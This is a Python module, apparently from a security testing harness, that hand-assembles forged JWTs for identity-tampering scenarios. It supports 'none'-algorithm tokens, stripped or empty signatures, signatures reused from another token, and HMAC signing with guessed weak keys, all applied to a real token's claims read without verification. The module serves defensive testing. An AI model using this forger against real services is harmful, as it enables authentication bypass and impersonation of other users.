"""Forged JWTs for identity-tampering scenarios (ATTACKS.md group D).

A forger needs byte-level control that a JWT library rightly refuses: any
`alg` value in the header, an unsigned token, a signature kept from another
token, deliberately weak keys. So tokens are assembled here by hand (JWS
compact form: base64url header, payload, signature), HMAC from the standard
library. The claims start from the actor's real token, read unverified.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
from collections.abc import Mapping
from dataclasses import dataclass, field
from typing import Any

_HMAC = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}


class ForgeError(ValueError):
    """A forge request that cannot be carried out; the message says why."""


@dataclass(frozen=True)
class Forgery:
    alg: str = "HS256"
    key: str | None = None
    claims: Mapping[str, Any] = field(default_factory=dict)
    drop: tuple[str, ...] = ()
    header: Mapping[str, Any] = field(default_factory=dict)
    signature: str | None = None  # sign, keep, empty, omit


def b64url(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode("ascii")


def b64url_decode(text: str) -> bytes:
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


def unverified_parts(token: str) -> tuple[dict, dict, str]:
    """Header, claims and signature of `token`, read without any verification."""
    try:
        header, payload, signature = token.split(".")
        return (
            json.loads(b64url_decode(header)),
            json.loads(b64url_decode(payload)),
            signature,
        )
    except ValueError as exc:
        raise ForgeError(f"the base token is not a JWT ({exc})") from None


def forge(base_token: str, forgery: Forgery) -> str:
    """A token made from `base_token`'s claims as `forgery` says."""
    base_header, claims, base_signature = unverified_parts(base_token)
    claims = {k: v for k, v in claims.items() if k not in forgery.drop}
    claims.update(forgery.claims)
    header = {"alg": forgery.alg, "typ": base_header.get("typ", "JWT")}
    header.update(forgery.header)

    signing_input = f"{_encode(header)}.{_encode(claims)}"
    mode = forgery.signature or ("empty" if forgery.alg.lower() == "none" else "sign")
    if mode == "omit":
        return signing_input
    if mode == "empty":
        return signing_input + "."
    if mode == "keep":
        return f"{signing_input}.{base_signature}"
    return f"{signing_input}.{_sign(signing_input, forgery)}"


def _encode(part: Mapping[str, Any]) -> str:
    return b64url(json.dumps(part, separators=(",", ":")).encode())


def _sign(signing_input: str, forgery: Forgery) -> str:
    digest = _HMAC.get(forgery.alg.upper())
    if digest is None:
        raise ForgeError(
            f"the harness signs only {', '.join(_HMAC)}, not {forgery.alg!r}; "
            "use `signature: keep`, `empty` or `omit` for other algorithms"
        )
    if forgery.key is None:
        raise ForgeError(f"signing with {forgery.alg} needs `key:` (the guessed key)")
    mac = hmac.new(forgery.key.encode(), signing_input.encode(), digest)
    return b64url(mac.digest())


def describe(token: str) -> str:
    """One line naming a forged token's header and claims, for findings."""
    try:
        header, claims, signature = unverified_parts(token)
    except ForgeError:
        return f"not a JWT: {token!r}"
    shown = "(none)" if not signature else f"{signature[:10]}..."
    return (
        f"header {json.dumps(header)}, claims {json.dumps(claims)}, signature {shown}"
    )
